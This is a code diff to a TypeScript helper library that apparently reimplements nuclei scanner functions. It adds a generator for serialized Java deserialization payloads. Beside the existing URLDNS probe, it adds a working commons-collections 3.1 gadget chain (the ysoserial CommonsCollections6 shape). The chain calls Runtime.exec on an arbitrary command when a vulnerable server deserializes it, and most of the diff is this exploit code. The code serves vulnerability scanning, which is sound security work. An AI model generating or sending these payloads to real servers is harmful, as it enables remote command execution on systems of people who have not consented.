@@ -1,49 +1,18 @@
 /**
- * `generate_java_gadget(gadget, url, encoding)`: serialized Java objects that make a deserializing
- * server act. keyhole writes them with its own serialization writer; of nuclei's gadgets it builds
- * `dns`, the URLDNS chain made only of JDK classes: a HashMap whose key is a java.net.URL with no
- * cached hash, so that reading the map hashes the URL, which resolves its host name. nuclei's other
- * gadgets are refused by name: jdk7u21, jdk8u20 and commons-collections4.0 embed compiled bytecode,
- * and commons-collections3.1 and groovy1 are graphs of third-party library classes, which a JDK alone
- * cannot read back to check them.
+ * `generate_java_gadget(gadget, url or command, encoding)`: serialized Java objects that make a
+ * deserializing server act, written with keyhole's own serialization writer. Of nuclei's gadgets it
+ * builds `dns`, the URLDNS chain of JDK classes (a HashMap whose key is a java.net.URL with no cached
+ * hash: reading the map hashes the URL, which resolves its host name), and `commons-collections3.1`
+ * (a command run through commons-collections' transformers). The others are refused by name:
+ * jdk7u21, jdk8u20 and commons-collections4.0 embed compiled bytecode, and groovy1 is a graph of
+ * Groovy runtime classes no reader here can check.
  */
 import { bytesToText } from '../bytes.js';
 import { argumentError } from '../errors.js';
 import { gzipGo } from './compression.js';
 import { fixed, type HelperFunction } from './helper.js';
-import {
-  type ClassDescriptor,
-  JavaObjectStream,
-  SC_SERIALIZABLE,
-  SC_WRITE_METHOD,
-} from './java-serialization.js';
-
-const HASH_MAP: ClassDescriptor = {
-  name: 'java.util.HashMap',
-  serialVersionUid: 362498820763181265n,
-  flags: SC_SERIALIZABLE | SC_WRITE_METHOD,
-  fields: [
-    { name: 'loadFactor', type: 'F' },
-    { name: 'threshold', type: 'I' },
-  ],
-};
-
-const STRING = 'Ljava/lang/String;';
-
-const URL: ClassDescriptor = {
-  name: 'java.net.URL',
-  serialVersionUid: -7627629688361524110n,
-  flags: SC_SERIALIZABLE | SC_WRITE_METHOD,
-  fields: [
-    { name: 'hashCode', type: 'I' },
-    { name: 'port', type: 'I' },
-    { name: 'authority', type: STRING },
-    { name: 'file', type: STRING },
-    { name: 'host', type: STRING },
-    { name: 'protocol', type: STRING },
-    { name: 'ref', type: STRING },
-  ],
-};
+import { COMMONS_COLLECTIONS_3 as CC, JAVA } from './java-classes.js';
+import { JavaObjectStream } from './java-serialization.js';
 
 /** The scheme and host name of a URL as Go's url.Parse gives them (scheme lowercased, no port). */
 export function schemeAndHost(url: string): { scheme: string; host: string } | undefined {
@@ -65,14 +34,70 @@ export function urlDnsGadget(url: string): Buffer | undefined {
   const parsed = schemeAndHost(url);
   if (parsed === undefined) return undefined;
   const stream = new JavaObjectStream();
-  stream.object(HASH_MAP).f32(0.75).i32(12);
+  stream.object(JAVA.hashMap).f32(0.75).i32(12);
   // HashMap.writeObject: the table's capacity and the number of entries
   stream.blockData((block) => block.i32(16).i32(1));
   // the key: hashCode -1 makes HashMap.readObject compute it, which resolves the host
-  stream.object(URL).i32(-1).i32(-1);
+  stream.object(JAVA.url).i32(-1).i32(-1);
   stream.string(parsed.host, true).string('').string(parsed.host, true).string(parsed.scheme).null();
   stream.endBlockData();
   stream.string(url);
+  stream.endBlockData();
+  return stream.toBuffer();
+}
+
+type Write = (stream: JavaObjectStream) => void;
+
+/** `new InvokerTransformer(method, parameterTypes, args)`. */
+function invoker(method: string, parameterTypes: readonly Write[], args: readonly Write[]): Write {
+  return (stream) => {
+    stream.object(CC.invokerTransformer);
+    stream.array(JAVA.objectArray, args);
+    stream.string(method);
+    stream.array(JAVA.classArray, parameterTypes);
+  };
+}
+
+const classOf =
+  (descriptor: Parameters<JavaObjectStream['classObject']>[0]): Write =>
+  (stream) =>
+    stream.classObject(descriptor);
+
+/**
+ * commons-collections 3.1 (ysoserial's CommonsCollections6 shape): a HashSet holding a TiedMapEntry
+ * over a LazyMap whose factory is the chain `Runtime.class` → `getMethod("getRuntime")` →
+ * `invoke(null)` → `exec(command)`. Reading the set hashes the entry, which asks the lazy map for
+ * its key, which runs the chain.
+ */
+export function commonsCollections31Gadget(command: string): Buffer {
+  const stream = new JavaObjectStream();
+  stream.object(JAVA.hashSet);
+  // HashSet.writeObject: capacity, load factor, size
+  stream.blockData((block) => block.i32(2).f32(0.75).i32(1));
+  stream.object(CC.tiedMapEntry);
+  stream.string('keyhole');
+  stream.object(CC.lazyMap);
+  stream.object(CC.chainedTransformer);
+  stream.array(CC.transformerArray, [
+    (s) => s.object(CC.constantTransformer).classObject(JAVA.runtime),
+    invoker(
+      'getMethod',
+      [classOf(JAVA.string), classOf(JAVA.classArray)],
+      [(s) => s.string('getRuntime'), (s) => s.array(JAVA.classArray, [])],
+    ),
+    invoker(
+      'invoke',
+      [classOf(JAVA.object), classOf(JAVA.objectArray)],
+      [(s) => s.null(), (s) => s.array(JAVA.objectArray, [])],
+    ),
+    invoker('exec', [classOf(JAVA.string)], [(s) => s.string(command)]),
+    (s) => s.object(CC.constantTransformer).object(JAVA.integer).i32(1),
+  ]);
+  // LazyMap.writeObject: the decorated map, empty
+  stream.object(JAVA.hashMap).f32(0.75).i32(0);
+  stream.blockData((block) => block.i32(16).i32(0));
+  stream.endBlockData();
+  stream.endBlockData();
   stream.endBlockData();
   return stream.toBuffer();
 }
@@ -98,13 +123,7 @@ export function encodeGadget(payload: Buffer, encoding: string): string {
   }
 }
 
-const UNBUILT_GADGETS = new Set([
-  'jdk7u21',
-  'jdk8u20',
-  'commons-collections3.1',
-  'commons-collections4.0',
-  'groovy1',
-]);
+const UNBUILT_GADGETS = new Set(['jdk7u21', 'jdk8u20', 'commons-collections4.0', 'groovy1']);
 
 export const javaGadgetFunctions: readonly HelperFunction[] = [
   fixed('generate_java_gadget', 3, (args) => {
@@ -118,9 +137,10 @@ export const javaGadgetFunctions: readonly HelperFunction[] = [
     if (UNBUILT_GADGETS.has(gadget)) {
       throw argumentError(
         'generate_java_gadget',
-        `the "${gadget}" gadget is not supported: keyhole builds only "dns"`,
+        `the "${gadget}" gadget is not supported: keyhole builds "dns" and "commons-collections3.1"`,
       );
     }
+    if (gadget === 'commons-collections3.1') return encodeGadget(commonsCollections31Gadget(url), encoding);
     // nuclei gives an empty text for a gadget it does not know or a URL it cannot parse
     if (gadget !== 'dns') return '';
     const payload = urlDnsGadget(url);
